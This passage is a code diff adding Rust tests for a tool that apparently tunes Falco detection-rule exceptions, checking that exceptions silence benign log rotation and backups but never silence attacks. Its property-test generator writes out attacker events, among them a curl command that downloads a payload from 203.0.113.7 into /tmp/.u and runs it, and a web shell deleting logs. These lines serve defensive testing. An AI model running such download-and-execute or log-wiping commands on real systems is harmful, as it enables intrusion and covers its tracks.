+  output: connect (%fd.name %proc.name)
+  priority: NOTICE
 "#;
 
     fn rules() -> Vec<RulesFile> {
@@ -587,64 +873,8 @@ mod tests {
     fn del(exe: &str, parent: &str, gp: &str, path: &str, image: &str) -> String {
         let name = exe.rsplit('/').next().unwrap();
         format!(
-            r#"{{"evt.type":"unlinkat","proc.name":"{name}","proc.exepath":"{exe}","proc.pname":"{parent}","proc.aname[2]":"{gp}","fs.path.name":"{path}","container.image.repository":"{image}","proc.cmdline":"{name} {path}"}}"#
+            r#"{{"evt.type":"unlinkat","proc.name":"{name}","proc.exepath":"{exe}","proc.pname":"{parent}","proc.aname[1]":"{parent}","proc.aname[2]":"{gp}","fs.path.name":"{path}","container.image.repository":"{image}","proc.cmdline":"{name} {path}"}}"#
         )
-    }
-
-    #[test]
-    fn generalisation() {
-        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
-        assert_eq!(
-            generalise("proc.name", &s(&["rm", "rm"])),
-            Some(("=".into(), ExVal::One("rm".into())))
-        );
-        assert_eq!(
-            generalise("proc.name", &s(&["rm", "unlink"])),
-            Some(("in".into(), ExVal::Many(s(&["rm", "unlink"]))))
-        );
-        assert_eq!(
-            generalise(
-                "fd.name",
-                &s(&["/var/log/app.1.log", "/var/log/app.22.log"])
-            ),
-            Some(("startswith".into(), ExVal::One("/var/log/app.".into())))
-        );
-        let many: Vec<String> = (0..10).map(|i| format!("/var/log/app/x{i}y.log")).collect();
-        assert_eq!(
-            generalise("fd.name", &many),
-            Some(("startswith".into(), ExVal::One("/var/log/app/".into())))
-        );
-        let many: Vec<String> = (0..10)
-            .map(|i| {
-                format!(
-                    "/srv/app/{}/out.log",
-                    ["a", "bb", "ccc"][i % 3].repeat(i + 1)
-                )
-            })
-            .collect();
-        assert_eq!(
-            generalise("fd.name", &many),
-            Some(("startswith".into(), ExVal::One("/srv/app/".into())))
-        );
-        // A quoted value with a space cannot use `=`.
-        assert_eq!(
-            generalise("proc.cmdline", &s(&["sh -c \"rm x\""])),
-            Some(("startswith".into(), ExVal::One("sh -c ".into())))
-        );
-        let cmds: Vec<String> = [
-            "alpha", "beta", "gamma", "delta", "eps", "zeta", "eta", "theta",
-        ]
-        .iter()
-        .map(|w| format!("{w} --cleanup-logs {w}"))
-        .collect();
-        assert_eq!(
-            generalise("proc.cmdline", &cmds),
-            Some(("contains".into(), ExVal::One("--cleanup-logs".into())))
-        );
-        assert!(safe_for_eq("a b"));
-        assert!(!safe_for_eq("a \"b\""));
-        assert!(!safe_for_eq("f(x)"));
-        assert!(safe_for_eq("f (x)"));
     }
 
     #[test]
@@ -691,7 +921,9 @@ mod tests {
                 "container.image.repository"
             ]
         );
+        assert_eq!(b.exceptions[0].name, "rm_deletes_dpkg_log");
         assert_eq!(b.verification.blast_radius.silenced, 1);
+        assert_eq!(b.verification.blast_radius.outside_benign_set, 0);
         assert!(b
             .yaml
             .starts_with("# quell tune: exception for rule \"Clear Log Activities\""));
@@ -699,6 +931,20 @@ mod tests {
             .yaml
             .contains("# Provenance: 1 benign event from benign.jsonl\n"));
         assert!(b.yaml.contains("  override:\n    exceptions: append\n"));
+        // The near-attacks: the web server's shell and another target keep alerting.
+        let m = &b.verification.mutations;
+        assert!(
+            m.iter().any(|m| m.kind == "service_shell" && !m.silenced),
+            "{m:#?}"
+        );
+        assert!(m.iter().any(|m| m.kind == "other_image" && !m.silenced));
+        assert_eq!(b.verification.mutations_silenced, 0, "{m:#?}");
+        assert!(
+            b.yaml
+                .contains("#   near-attacks made from the benign events: "),
+            "{}",
+            b.yaml
+        );
         // The printed text is the verified text.
         assert_eq!(vf.verify(&b.yaml, false), b.verification);
         // Alternatives are ranked: passing ones before failing ones; a failing one says why.
@@ -714,12 +960,125 @@ mod tests {
             .any(|c| !c.verification.passed && c.verification.keep_alerting == 0));
     }
 
+    /// The seed story with only the history (no keep set): the web shell's deletion in
+    /// the history is triaged likely real, so the candidate that would silence it is
+    /// refused and a narrower one (the grandparent: the runtime, not the web server) wins.
     #[test]
-    fn mixed_truncate_and_delete_get_two_exceptions() {
+    fn history_attack_refuses_the_broad_candidate() {
         let rules = rules();
-        let trunc = r#"{"evt.type":"openat","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fd.name":"/var/log/app.log"}"#;
+        let seed = include_str!("../../../examples/seed.jsonl");
+        let history = parse_records(seed, "seed.jsonl").unwrap();
+        let benign: Vec<Record> = history
+            .iter()
+            .filter(|r| {
+                text(&r.event, "proc.cmdline").as_deref() == Some("rm /var/log/dpkg.log")
+                    && text(&r.event, "evt.type").as_deref() == Some("unlinkat")
+            })
+            .cloned()
+            .collect();
+        assert_eq!(benign.len(), 1);
+        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &history).unwrap();
+        let p = synthesize(
+            &vf,
+            &Options {
+                max_alternatives: 40,
+                ..Options::default()
+            },
+        )
+        .unwrap();
+        let v = &p.best.verification;
+        assert!(v.passed, "{v:#?}");
+        assert_eq!(v.blast_radius.blocking, 0);
+        assert_eq!(v.blast_radius.silenced, 1, "{}", p.best.yaml);
+        assert!(
+            p.best.exceptions[0]
+                .fields
+                .contains(&"proc.aname[2]".to_string()),
+            "{}",
+            p.best.yaml
+        );
+        // The broad candidate is among the alternatives, refused, naming the web shell's deletion.
+        let broad = p
+            .alternatives
+            .iter()
+            .find(|c| c.template == "actor+parent+target+workload")
+            .expect("the broad candidate is reported");
+        assert!(!broad.verification.passed);
+        let b = &broad.verification.blocking[0];
+        assert_eq!(b.verdict, "likely_real");
+        assert!(b.description.contains("rm -f /var/log/dpkg.log"), "{b:?}");
+        assert_eq!(broad.verification.blast_radius.blocking, 1);
+    }
+
+    #[test]
+    fn blocked_when_every_candidate_silences_an_alert_marked_real() {
+        let rules = rules();
+        let benign = parse_records(
+            &del("/usr/bin/rm", "bash", "runc", "/var/log/dpkg.log", "httpd"),
+            "b",
+        )
+        .unwrap();
+        // The same action, differing only in a field no exception keys on, marked real,
+        // with an escape sequence in its command line.
+        let mut real: serde_json::Value = serde_json::from_str(&del(
+            "/usr/bin/rm",
+            "bash",
+            "runc",
+            "/var/log/dpkg.log",
+            "httpd",
+        ))
+        .unwrap();
+        real["proc.pid"] = 4242.into();
+        real["quell.decision"] = "real".into();
+        real["proc.cmdline"] = "rm /var/log/dpkg.log \u{1b}[2J".into();
+        real["proc.pcmdline"] = "x".into();
+        let hist = parse_records(&real.to_string(), "h").unwrap();
+        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
+        match synthesize(&vf, &Options::default()) {
+            Err(SynthError::Blocked {
+                why,
+                description,
+                rule,
+                ..
+            }) => {
+                assert_eq!(why, "a person marked real");
+                assert_eq!(rule, "Clear Log Activities");
+                assert!(!description.contains('\u{1b}'), "{description}");
+                assert!(description.contains("\\x1b[2J"), "{description}");
+            }
+            // Candidates keyed on the command line tell them apart: then it passes and
+            // does not silence the marked alert.
+            Ok(p) => {
+                assert!(p.best.verification.passed);
+                assert_eq!(
+                    p.best.verification.blast_radius.marked_real, 0,
+                    "{}",
+                    p.best.yaml
+                );
+            }
+            Err(e) => panic!("{e}"),
+        }
+        // Without the command line to tell them apart, tune refuses and says why.
+        real["proc.cmdline"] = "rm /var/log/dpkg.log".into();
+        real["proc.exepath"] = "/usr/bin/rm".into();
+        let hist = parse_records(&real.to_string(), "h").unwrap();
+        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &hist).unwrap();
+        let e = synthesize(&vf, &Options::default()).unwrap_err();
+        assert!(matches!(e, SynthError::Blocked { .. }), "{e}");
+        let msg = e.to_string();
+        assert!(
+            msg.contains("a person marked real") && msg.contains("line 1: rm /var/log/dpkg.log"),
+            "{msg}"
+        );
+    }
+
+    #[test]
+    fn mixed_truncate_and_delete_get_two_readable_exceptions() {
+        let rules = rules();
+        let trunc = r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_TRUNC","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fd.name":"/var/log/app/web.log"}"#;
+        let trunc2 = r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_TRUNC","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fd.name":"/var/log/app/worker.log"}"#;
         let delete = r#"{"evt.type":"unlinkat","proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fs.path.name":"/var/log/app.log.5"}"#;
-        let benign = parse_records(&[trunc, delete].join("\n"), "b").unwrap();
+        let benign = parse_records(&[trunc, trunc2, delete].join("\n"), "b").unwrap();
         let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &[], &[]).unwrap();
         let p = synthesize(
             &vf,
@@ -730,9 +1089,220 @@ mod tests {
         )
         .unwrap();
         assert_eq!(p.best.exceptions.len(), 2);
-        assert_eq!(p.best.exceptions[1].name, "quell_logrotate_app_log_5_2");
+        assert_eq!(p.best.exceptions[0].name, "logrotate_truncates_var_log_app");
+        assert_eq!(p.best.exceptions[0].comps[2], "startswith");
+        assert_eq!(p.best.exceptions[1].name, "logrotate_deletes_app_log");
+        assert_eq!(p.best.exceptions[1].comps[2], "glob");
         assert!(p.best.yaml.ends_with("  append: true\n"));
         assert!(p.best.verification.passed);
+        // The next rotation and another file of the directory are silenced too; a log
+        // elsewhere is not.
+        let mut e = quell_rules::engine::Engine::new();
+        e.load("rules.yaml", RULES);
+        assert!(e.load("local.yaml", &p.best.yaml).successful);
+        let r = e.rule("Clear Log Activities").unwrap();
+        let ev = |l: &str| quell_events::FlatEvent::from_json_line(l).unwrap();
+        assert!(!r.matches(&ev(&delete.replace("app.log.5", "app.log.6"))));
+        assert!(!r.matches(&ev(&trunc.replace("web.log", "api.log"))));
+        assert!(r.matches(&ev(
+            &trunc.replace("/var/log/app/web.log", "/var/log/auth.log")
+        )));
+        assert!(r.matches(&ev(&delete.replace("app.log.5", "auth.log"))));
+    }
+
+    #[test]
+    fn connections_key_on_the_server_and_interpreters_on_their_script() {
+        let rules = rules();
+        let conn = |client_port: u32, sip: &str, script: &str| {
+            format!(
+                r#"{{"evt.type":"connect","proc.name":"python3","proc.exepath":"/usr/bin/python3.11","proc.cmdline":"python3 {script} --all","proc.pname":"cron","fd.sip":"{sip}","fd.sport":5432,"fd.cport":{client_port},"fd.name":"10.0.0.5:{client_port}->{sip}:5432"}}"#
+            )
+        };
+        let benign = parse_records(
+            &[
+                conn(43122, "10.0.3.7", "/opt/backup/push.py"),
+                conn(51000, "10.0.3.9", "/opt/backup/push.py"),
+            ]
+            .join("\n"),
+            "b",
+        )
+        .unwrap();
+        let vf = Verifier::new(&rules, "Outbound Connection", &benign, &[], &[]).unwrap();
+        let p = synthesize(&vf, &Options::default()).unwrap();
+        let ex = &p.best.exceptions[0];
+        assert!(
+            !ex.fields
+                .iter()
+                .any(|f| f == "fd.cport" || f == "fd.name" || f == "fd.lport"),
+            "{ex:?}"
+        );
+        assert!(ex.fields.contains(&"proc.cmdline".to_string()), "{ex:?}");
+        assert!(ex.fields.contains(&"fd.sport".to_string()), "{ex:?}");
+        assert!(
+            ex.fields.iter().any(|f| f == "fd.snet" || f == "fd.sip"),
+            "{ex:?}"
+        );
+        assert_eq!(ex.name, "push_py_connects_to_postgres");
+        assert!(p.best.verification.passed, "{:#?}", p.best.verification);
+        let m = &p.best.verification.mutations;
+        assert!(
+            m.iter().any(|m| m.kind == "other_script" && !m.silenced),
+            "{m:#?}"
+        );
+        assert!(
+            m.iter().any(|m| m.kind == "other_target" && !m.silenced),
+            "{m:#?}"
+        );
+        let mut e = quell_rules::engine::Engine::new();
+        e.load("rules.yaml", RULES);
+        assert!(e.load("local.yaml", &p.best.yaml).successful);
+        let r = e.rule("Outbound Connection").unwrap();
+        let ev = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
+        // The next connection (another client port, another server of the network) is silenced.
+        assert!(!r.matches(&ev(conn(60001, "10.0.3.8", "/opt/backup/push.py"))));
+        // Another script of the same interpreter, or another server, still alerts.
+        assert!(r.matches(&ev(conn(60001, "10.0.3.8", "/tmp/x.py"))));
+        assert!(r.matches(&ev(conn(60001, "203.0.113.7", "/opt/backup/push.py"))));
+    }
+
+    /// Where the parent alone (a shell) is shared with attacks, the lineage goes in: the
+    /// grandparent (`proc.aname[2]`) or, where the depth varies, any ancestor (unindexed
+    /// `proc.aname`), each a verified candidate.
+    #[test]
+    fn ancestors_tell_a_cron_shell_from_a_web_shell() {
+        let rules = rules();
+        let ev = |chain: &[&str], pid: u32| {
+            let mut j = serde_json::json!({"evt.type":"unlinkat","proc.pid":pid,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm /var/log/app/old.log","fs.path.name":"/var/log/app/old.log","proc.pname":chain[0]});
+            for (i, a) in chain.iter().enumerate() {
+                j[format!("proc.aname[{}]", i + 1)] = (*a).into();
+            }
+            j.to_string()
+        };
+        let benign = parse_records(
+            &[
+                ev(&["sh", "cron", "init"], 1),
+                ev(&["sh", "sh", "cron", "init"], 2),
+            ]
+            .join("\n"),
+            "b",
+        )
+        .unwrap();
+        let keep = parse_records(&ev(&["sh", "httpd", "containerd-shim"], 3), "k").unwrap();
+        let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &[]).unwrap();
+        let p = synthesize(
+            &vf,
+            &Options {
+                max_alternatives: 40,
+                ..Options::default()
+            },
+        )
+        .unwrap();
+        assert!(p.best.verification.passed);
+        assert!(
+            p.best.exceptions[0]
+                .fields
+                .iter()
+                .any(|f| f.starts_with("proc.aname")),
+            "{}",
+            p.best.yaml
+        );
+        let anc = std::iter::once(&p.best)
+            .chain(&p.alternatives)
+            .find(|c| c.template == "actor+parent+ancestor+target+workload")
+            .expect("an any-ancestor candidate");
+        assert!(anc.verification.passed, "{:#?}", anc.verification);
+        assert!(anc.yaml.contains("proc.aname"), "{}", anc.yaml);
+        let mut e = quell_rules::engine::Engine::new();
+        e.load("rules.yaml", RULES);
+        assert!(e.load("local.yaml", &anc.yaml).successful);
+        let r = e.rule("Clear Log Activities").unwrap();
+        let f = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
+        // Deeper under cron still silenced; under a web server still alerting.
+        assert!(!r.matches(&f(ev(&["sh", "sh", "sh", "cron", "init"], 4))));
+        assert!(r.matches(&f(ev(&["sh", "nginx", "containerd-shim"], 6))));
+    }
+
+    /// Every operator the kinds emit loads as a Falco exception (list form) and evaluates
+    /// as Falco does on the engine: `=`, `in`, `startswith` with a trailing `/`, `pmatch`
+    /// over directories, `glob` over digit runs, `fd.snet` CIDR, a pod prefix.
+    #[test]
+    fn every_emitted_operator_loads_and_evaluates() {
+        let rules = "- rule: Any\n  desc: d\n  condition: evt.type in (openat, connect, unlinkat)\n  output: o\n  priority: NOTICE\n";
+        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
+        let cases: Vec<(Gen, &str, &str)> = vec![
+            (
+                ladder("proc.name", &s(&["rm"]))[0].clone(),
+                r#"{"proc.name":"rm"}"#,
+                r#"{"proc.name":"rmdir"}"#,
+            ),
+            (
+                ladder("proc.name", &s(&["rm", "unlink"]))[0].clone(),
+                r#"{"proc.name":"unlink"}"#,
+                r#"{"proc.name":"ln"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/app/log/a.log"]))[1].clone(),
+                r#"{"fd.name":"/srv/app/log/z.log"}"#,
+                r#"{"fd.name":"/srv/app/logs/a.log"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/a/x/f", "/srv/b/y/f"]))[1].clone(),
+                r#"{"fd.name":"/srv/b/y/other"}"#,
+                r#"{"fd.name":"/srv/b/other"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/app/seg-0001.log"]))[1].clone(),
+                r#"{"fd.name":"/srv/app/seg-0999.log"}"#,
+                r#"{"fd.name":"/srv/app/seg-0001.txt"}"#,
+            ),
+            (
+                ladder("fd.sip", &s(&["10.0.3.7", "10.0.3.9"]))[1].clone(),
+                r#"{"fd.sip":"10.0.3.200","fd.cip":"192.168.0.1"}"#,
+                r#"{"fd.sip":"10.0.4.1","fd.cip":"10.0.3.5"}"#,
+            ),
+            (
+                ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]))[1].clone(),
+                r#"{"k8s.pod.name":"web-5c4d7f9b8-qq2rt"}"#,
+                r#"{"k8s.pod.name":"webhook-1"}"#,
+            ),
+            (
+                ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]))[1].clone(),
+                r#"{"proc.cmdline":"kubectl rollout status deploy/api"}"#,
+                r#"{"proc.cmdline":"kubectl exec -it web -- sh"}"#,
+            ),
+        ];
+        for (g, silenced, alerting) in cases {
+            let ex = ExceptionSpec {
+                name: "x".into(),
+                fields: vec![g.field.clone()],
+                comps: vec![g.comp.clone()],
+                values: vec![vec![g.value.clone()]],
+            };
+            let block = block_yaml("Any", &[ex], Style::Override);
+            let mut e = quell_rules::engine::Engine::new();
+            assert!(e.load("r.yaml", rules).successful);
+            let res = e.load("x.yaml", &block);
+            assert!(
+                res.successful && res.warnings.is_empty(),
+                "{block}: {:?} {:?}",
+                res.errors,
+                res.warnings
+            );
+            let r = e.rule("Any").unwrap();
+            let ev = |j: &str| {
+                let mut v: serde_json::Value = serde_json::from_str(j).unwrap();
+                v["evt.type"] = "openat".into();
+                quell_events::FlatEvent::from_json_line(&v.to_string()).unwrap()
+            };
+            assert!(
+                !r.matches(&ev(silenced)),
+                "{block} should silence {silenced}"
+            );
+            assert!(
+                r.matches(&ev(alerting)),
+                "{block} should not silence {alerting}"
+            );
+        }
     }
 
     #[test]
@@ -768,7 +1338,7 @@ mod tests {
         let p = synthesize(&vf, &Options::default()).unwrap();
         assert!(p.best.verification.passed, "{:#?}", p.best);
         assert!(
-            p.best.yaml.contains("[/bin/sh, my app, /var/log/a b.log]"),
+            p.best.yaml.contains("my app, /var/log/a b.log]"),
             "{}",
             p.best.yaml
         );
@@ -778,6 +1348,171 @@ mod tests {
                 "{}: {:?}",
                 c.yaml, c.verification.errors
             );
+        }
+    }
+}
+
+/// The property of issue 11: a printed exception never silences an event of its own keep
+/// set, nor a history alert that triage rates `likely_real` (other than the events a
+/// person put in the benign set themselves), whatever mix of operators' and attackers'
+/// actions the benign set, the keep set and the history hold.
+#[cfg(test)]
+mod property {
+    use proptest::prelude::*;
+    use quell_rules::engine::Engine;
+
+    use super::*;
+    use crate::catalogue::Catalogue;
+    use crate::history::History;
+    use crate::input::parse_records;
+    use crate::triage::{Lang, Triage, Verdict};
+    use crate::verify::RulesFile;
+
+    const RULES: &str = "- rule: Clear Log Activities\n  desc: d\n  condition: evt.type = unlinkat and fs.path.name startswith /var/log/\n  output: o %proc.name %fs.path.name %proc.cmdline\n  priority: WARNING\n";
+
+    /// One deletion of a log, by someone, in a session (`sid`); attackers' sessions first
+    /// download and run a payload.
+    #[derive(Clone, Debug)]
+    struct Del {
+        actor: &'static str,
+        parent: &'static str,
+        gparent: &'static str,
+        path: &'static str,
+        user: &'static str,
+        tty: i64,
+        attack: bool,
+    }
+
+    fn del() -> impl Strategy<Value = Del> {
+        (
+            prop::sample::select(vec!["rm", "logrotate", "python3", "find"]),
+            prop::sample::select(vec!["bash", "sh", "cron"]),
+            prop::sample::select(vec!["runc", "sshd", "httpd", "cron", "nginx"]),
+            prop::sample::select(vec![
+                "/var/log/dpkg.log",
+                "/var/log/app/web.1.log",
+                "/var/log/app/web.2.log",
+                "/var/log/auth.log",
+            ]),
+            prop::sample::select(vec!["root", "www-data"]),
+            prop::sample::select(vec![0i64, 34816]),
+            any::<bool>(),
+        )
+            .prop_map(|(actor, parent, gparent, path, user, tty, attack)| Del {
+                actor,
+                parent,
+                gparent,
+                path,
+                user,
+                tty,
+                attack,
+            })
+    }
+
+    fn lines(d: &Del, sid: usize) -> Vec<String> {
+        let exe = if d.actor == "logrotate" {
+            "/usr/sbin/logrotate".to_string()
+        } else {
+            format!("/usr/bin/{}", d.actor)
+        };
+        let cmd = match d.actor {
+            "python3" => format!("python3 /opt/jobs/clean.py {}", d.path),
+            "find" => format!(
+                "find /var/log -name {} -delete",
+                d.path.rsplit('/').next().unwrap_or("")
+            ),
+            a => format!("{a} {}", d.path),
+        };
+        let common = format!(
+            r#""proc.sid":{sid},"proc.tty":{},"user.name":"{}","container.id":"c{sid}","proc.pname":"{}","proc.aname[1]":"{}","proc.aname[2]":"{}""#,
+            d.tty, d.user, d.parent, d.parent, d.gparent
+        );
+        let mut out = Vec::new();
+        let t = 1_700_000_000_000_000_000u64 + (sid as u64) * 1_000_000_000;
+        if d.attack {
+            out.push(format!(
+                r#"{{"evt.type":"execve","evt.rawtime":{t},"proc.pid":{},"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s -o /tmp/.u http://203.0.113.7/p",{common}}}"#,
+                sid * 10
+            ));
+            out.push(format!(
+                r#"{{"evt.type":"execve","evt.rawtime":{},"proc.pid":{},"proc.name":".u","proc.exepath":"/tmp/.u","proc.cmdline":".u",{common}}}"#,
+                t + 1000,
+                sid * 10 + 1
+            ));
+        }
+        out.push(format!(
+            r#"{{"evt.type":"unlinkat","evt.rawtime":{},"proc.pid":{},"proc.name":"{}","proc.exepath":"{exe}","proc.cmdline":"{cmd}","fs.path.name":"{}",{common}}}"#,
+            t + 2000,
+            sid * 10 + 2,
+            d.actor,
+            d.path
+        ));
+        out
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 24, .. ProptestConfig::default() })]
+
+        #[test]
+        fn printed_exceptions_never_silence_keep_or_likely_real_history(
+            dels in proptest::collection::vec(del(), 2..7),
+            web_shell_path in prop::sample::select(vec!["/var/log/dpkg.log", "/var/log/app/web.1.log"]),
+            benign_pick in proptest::collection::vec(any::<bool>(), 7),
+            keep_pick in proptest::collection::vec(any::<bool>(), 7),
+        ) {
+            // Always one web shell deleting a log after a download: the history has
+            // something triage rates likely real.
+            let mut all = dels.clone();
+            all.push(Del { actor: "rm", parent: "sh", gparent: "httpd", path: web_shell_path, user: "www-data", tty: 0, attack: true });
+            let mut history_lines = Vec::new();
+            let mut benign_lines = Vec::new();
+            let mut keep_lines = Vec::new();
+            for (i, d) in all.iter().enumerate() {
+                let ls = lines(d, i + 1);
+                let deletion = ls.last().cloned().unwrap_or_default();
+                if !d.attack && benign_pick[i % 7] {
+                    benign_lines.push(deletion.clone());
+                } else if keep_pick[i % 7] && d.attack {
+                    keep_lines.push(deletion.clone());
+                }
+                history_lines.extend(ls);
+            }
+            prop_assume!(!benign_lines.is_empty());
+            let history = parse_records(&history_lines.join("\n"), "h").unwrap();
+            let benign = parse_records(&benign_lines.join("\n"), "b").unwrap();
+            let keep = parse_records(&keep_lines.join("\n"), "k").unwrap();
+            let rules = vec![RulesFile { name: "r.yaml".into(), text: RULES.into() }];
+            let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &history).unwrap();
+            // Triage of the history, independently of the verifier.
+            let mut base = Engine::new();
+            base.load("r.yaml", RULES);
+            let cat = Catalogue::builtin();
+            let prior = History::empty();
+            let reports = Triage { engine: &base, catalogue: &cat, history: &prior, lang: Lang::En, hostname: "" }.run(&history);
+            let real: Vec<usize> = reports
+                .iter()
+                .filter(|r| r.rule == "Clear Log Activities" && r.verdict == Verdict::LikelyReal)
+                .flat_map(|r| r.members.iter().copied())
+                .filter(|&i| !benign.iter().any(|b| b.event == history[i].event))
+                .collect();
+            prop_assert!(!real.is_empty(), "the web shell's deletion is triaged likely real");
+            let Ok(p) = synthesize(&vf, &Options::default()) else {
+                return Ok(());
+            };
+            let mut tuned = Engine::new();
+            tuned.load("r.yaml", RULES);
+            let res = tuned.load("local.yaml", &p.best.yaml);
+            prop_assert!(res.successful, "{:?}", res.errors);
+            let rule = tuned.rule("Clear Log Activities").unwrap();
+            for &i in &real {
+                prop_assert!(rule.matches(&history[i].event), "silences likely-real history line {}:\n{}", i + 1, p.best.yaml);
+            }
+            for k in &keep {
+                prop_assert!(rule.matches(&k.event), "silences a keep event:\n{}", p.best.yaml);
+            }
+            for b in &benign {
+                prop_assert!(!rule.matches(&b.event), "leaves a benign event alerting:\n{}", p.best.yaml);
+            }
         }
     }
 }
